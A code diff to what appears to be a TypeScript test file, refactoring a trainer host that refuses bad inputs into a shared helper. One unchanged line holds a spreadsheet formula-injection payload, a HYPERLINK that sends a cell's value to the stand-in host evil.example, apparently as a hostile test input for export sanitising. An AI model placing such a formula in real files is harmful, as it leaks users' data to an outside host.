@@ -14,7 +14,7 @@ import { join } from 'node:path';
 import { bundleEntryOf } from '../../src-shared/report/bundle';
 import { fixtureRun, hostile } from '../../src-shared/report/report.testing';
 import { createAppCore, type AppCore } from '../core/app';
-import type { TrainerHost } from '../core/runner/trainer-host';
+import { refusingTrainers } from '../core/app.testing';
 import { tempDir } from '../core/store/store.testing';
 import { startServer, type RunningServer } from '../server/server';
 import * as exportCommand from '../cli/commands/export';
@@ -27,11 +27,7 @@ import { fingerprint } from './db-checksum';
 import { sweepCases } from './sweep-cases';
 
 /** A host that refuses to train: a bad input that got queued would show as a failed run. */
-const noTrainers: TrainerHost = {
-  start: () => {
-    throw new Error('bad input reached the trainer');
-  },
-};
+const noTrainers = refusingTrainers('bad input reached the trainer');
 
 const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
